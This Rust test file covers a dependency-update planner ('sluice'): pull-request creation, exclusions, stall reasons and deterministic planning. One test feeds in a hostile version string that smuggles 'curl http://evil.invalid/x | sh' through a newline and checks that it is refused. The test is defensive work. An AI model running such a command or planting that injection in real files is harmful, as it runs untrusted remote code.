//! What the planner renders: wanted builds, directories, exclusions and stalls.

use super::*;

#[test]
fn nothing_requested_is_up_to_date() {
    for state in [(None, None), (Some(1), Some(1))] {
        let p = plan(&input(vec![sub("s", state.0, state.1)], new_foo()));
        assert!(p.actions.is_empty(), "{state:?}");
        assert_eq!(reason(&p, "s"), "Ready/UpToDate");
    }
}

#[test]
fn a_new_build_opens_a_pull_request() {
    let p = plan(&input(vec![sub("s", Some(1), None)], new_foo()));
    assert_eq!(kinds(&p), ["Push(h1,None)", "Open({\"s\": 1})"]);
    let Action::PushUpdate {
        branch,
        files,
        message,
        ..
    } = &p.actions[0]
    else {
        unreachable!()
    };
    assert_eq!(branch, "sluice/main/s");
    assert_eq!(files.keys().collect::<Vec<_>>(), [XML, PROPS]);
    assert!(String::from_utf8_lossy(&files[PROPS]).contains("<FooCorePackageVersion>1.1.0<"));
    assert_eq!(
        message,
        "[main] Update dependencies from contoso/runtime\n\n- **Foo.Core**: from 1.0.0 to 1.1.0\n"
    );
    let Action::OpenPullRequest {
        head_branch,
        title,
        description,
        ..
    } = &p.actions[1]
    else {
        unreachable!()
    };
    assert_eq!(head_branch, "sluice/main/s");
    assert_eq!(title, "[main] Update dependencies from contoso/runtime");
    assert!(description.contains("<!-- sluice:begin subscription=s build=1 -->"));
    assert_eq!(reason(&p, "s"), "Reconciling/PullRequestOpening");
}

#[test]
fn a_build_that_changes_nothing_is_recorded() {
    let builds = vec![build(3, &[("Unrelated", "9.0.0")])];
    let p = plan(&input(vec![sub("s", Some(3), None)], builds.clone()));
    assert_eq!(kinds(&p), ["Applied(s,3)"]);
    assert_eq!(reason(&p, "s"), "Ready/NothingToUpdate");
    // Forced again after being recorded: nothing to change; recording it once more
    // clears the force, after which there is nothing left to do.
    let mut s = sub("s", Some(3), Some(3));
    s.state.force = true;
    let p = plan(&input(vec![s.clone()], builds.clone()));
    assert_eq!(kinds(&p), ["Applied(s,3)"]);
    assert_eq!(reason(&p, "s"), "Ready/NothingToUpdate");
    s.state.force = false;
    let p = plan(&input(vec![s], builds));
    assert!(p.actions.is_empty());
    assert_eq!(reason(&p, "s"), "Ready/UpToDate");
}

#[test]
fn excluded_assets_are_not_applied() {
    let mut s = sub("s", Some(1), None);
    s.spec.excluded_assets = vec!["foo.*".into()];
    let p = plan(&input(vec![s], new_foo()));
    assert_eq!(kinds(&p), ["Applied(s,1)"]);
}

#[test]
fn an_unknown_build_stalls() {
    let p = plan(&input(vec![sub("s", Some(42), None)], new_foo()));
    assert!(p.actions.is_empty());
    assert_eq!(reason(&p, "s"), "Stalled/UnknownBuild");
}

#[test]
fn a_value_the_writers_refuse_stalls_without_an_update() {
    let hostile = "1.1.0\nRUN curl http://evil.invalid/x | sh\n#";
    let p = plan(&input(
        vec![sub("s", Some(7), None)],
        vec![build(7, &[("Foo.Core", hostile)])],
    ));
    assert!(p.actions.is_empty(), "{:?}", kinds(&p));
    assert_eq!(reason(&p, "s"), "Stalled/ManifestRefused");
    let m = message(&p, "s");
    assert!(
        m.contains(&format!(
            "{XML}: refusing version \"1.1.0\\nRUN curl http://evil.invalid/x | s…\" of dependency \"Foo.Core\""
        )),
        "{m}"
    );
}

#[test]
fn a_missing_target_branch_stalls_every_subscription() {
    let mut i = input(
        vec![sub("a", Some(1), None), sub("b", None, None)],
        new_foo(),
    );
    i.target.head = None;
    let p = plan(&i);
    assert!(p.actions.is_empty());
    for name in ["a", "b"] {
        assert_eq!(reason(&p, name), "Stalled/TargetBranchMissing");
        assert!(message(&p, name).contains(SDK) && message(&p, name).contains("main"));
    }
}

#[test]
fn a_malformed_manifest_stalls_only_its_subscription() {
    let mut good = sub("a", Some(1), None);
    good.spec = spec(&["."], true);
    let mut bad = sub("b", Some(1), None);
    bad.spec = spec(&["src/bad"], true);
    let mut missing = sub("c", Some(1), None);
    missing.spec = spec(&["src/none"], true);
    let mut i = input(vec![good, bad, missing], new_foo());
    i.key = UpdateKey::Batch {
        repository: SDK.into(),
        branch: "main".into(),
    };
    i.target.files.insert(
        format!("src/bad/{XML}"),
        b"<Dependencies>\n  <ProductDependencies>\n".to_vec(),
    );
    let p = plan(&i);
    assert_eq!(kinds(&p), ["Push(h1,None)", "Open({\"a\": 1})"]);
    let Action::PushUpdate { branch, .. } = &p.actions[0] else {
        unreachable!()
    };
    assert_eq!(branch, "sluice/main/_batch");
    assert_eq!(reason(&p, "a"), "Reconciling/PullRequestOpening");
    assert_eq!(reason(&p, "b"), "Stalled/ManifestInvalid");
    let m = message(&p, "b");
    assert!(
        m.starts_with(&format!("{SDK} branch main: src/bad/{XML}:")),
        "{m}"
    );
    assert_eq!(reason(&p, "c"), "Stalled/NoManifest");
}

#[test]
fn directories_prefix_the_manifest_paths() {
    let mut s = sub("s", Some(1), None);
    s.spec = spec(&["src/tool", "."], false);
    let mut i = input(vec![s], new_foo());
    i.target
        .files
        .extend(files_in("src/tool", &[("Foo.Core", "0.9.0")]));
    let p = plan(&i);
    let Action::PushUpdate { files, .. } = &p.actions[0] else {
        unreachable!()
    };
    let paths: Vec<&str> = files.keys().map(String::as_str).collect();
    assert_eq!(
        paths,
        [
            XML,
            PROPS,
            "src/tool/eng/Version.Details.xml",
            "src/tool/eng/Versions.props"
        ]
    );
}

#[test]
fn wanted_builds_table() {
    // (requested, applied, rejected, force, carried) -> wanted
    let cases = [
        ((None, None, None, false, None), plan::Wanted::UpToDate),
        ((Some(2), None, None, false, None), plan::Wanted::Build(2)),
        (
            (Some(2), Some(2), None, false, None),
            plan::Wanted::UpToDate,
        ),
        ((Some(2), Some(2), None, true, None), plan::Wanted::Build(2)),
        (
            (Some(1), Some(2), None, false, None),
            plan::Wanted::UpToDate,
        ),
        (
            (Some(2), None, Some(2), false, None),
            plan::Wanted::Rejected(2),
        ),
        ((Some(2), None, Some(3), true, None), plan::Wanted::Build(2)),
        (
            (Some(3), None, Some(2), false, None),
            plan::Wanted::Build(3),
        ),
        (
            (None, Some(1), None, false, Some(2)),
            plan::Wanted::Build(2),
        ),
        (
            (Some(1), Some(1), None, false, Some(1)),
            plan::Wanted::UpToDate,
        ),
        (
            (Some(1), Some(1), None, false, Some(2)),
            plan::Wanted::UpToDate,
        ),
        (
            (None, Some(2), None, false, Some(2)),
            plan::Wanted::UpToDate,
        ),
        (
            (None, None, Some(2), false, Some(2)),
            plan::Wanted::UpToDate,
        ),
        (
            (Some(2), None, Some(2), false, Some(2)),
            plan::Wanted::Rejected(2),
        ),
    ];
    for ((requested, applied, rejected, force, carried), want) in cases {
        let mut s = sub("s", requested, applied);
        s.state.rejected_build = rejected;
        s.state.force = force;
        assert_eq!(plan::wanted_build(&s, carried), want, "{:?}", s.state);
    }
}

#[test]
fn planning_is_deterministic_and_order_independent() {
    let mut a = sub("a", Some(1), None);
    a.spec = spec(&["."], true);
    let mut b = sub("b", Some(5), None);
    b.spec = spec(&["."], true);
    let mut builds = new_foo();
    builds.push(build(5, &[("Bar.Sdk", "2.1.0")]));
    let mut i = input(vec![a.clone(), b.clone()], builds.clone());
    let mut j = input(vec![b, a], builds);
    i.key = UpdateKey::Batch {
        repository: SDK.into(),
        branch: "main".into(),
    };
    j.key = i.key.clone();
    assert_eq!(plan(&i), plan(&i));
    let (pi, pj) = (plan(&i), plan(&j));
    assert_eq!(pi.actions, pj.actions);
    assert_eq!(pi.outcomes, pj.outcomes);
    let _: BTreeMap<String, Outcome> = pi.outcomes;
}

#[test]
fn settled_keys_need_no_target_and_plan_the_same_without_it() {
    // Nothing wanted and no pull request: the target is not needed, and planning without
    // it gives exactly the plan with it.
    let applied = sub("s", Some(1), Some(1));
    let mut with_target = input(vec![applied.clone()], new_foo());
    assert!(!plan::needs_target(&with_target.subscriptions, None));
    let mut without = with_target.clone();
    without.target = TargetObservation::default();
    assert_eq!(plan(&without), plan(&with_target));
    assert!(plan(&without).actions.is_empty());
    assert_eq!(reason(&plan(&without), "s"), "Ready/UpToDate");

    // A wanted build needs the target; without it the subscription stalls.
    let wanting = sub("s", Some(1), None);
    assert!(plan::needs_target(std::slice::from_ref(&wanting), None));
    with_target.subscriptions = vec![wanting];
    with_target.target = TargetObservation::default();
    assert_eq!(
        reason(&plan(&with_target), "s"),
        "Stalled/TargetBranchMissing"
    );

    // An open pull request needs the target too.
    let pr = open_pr(&[("s", 1)], "h1");
    assert!(plan::needs_target(
        std::slice::from_ref(&applied),
        Some(&pr)
    ));
}
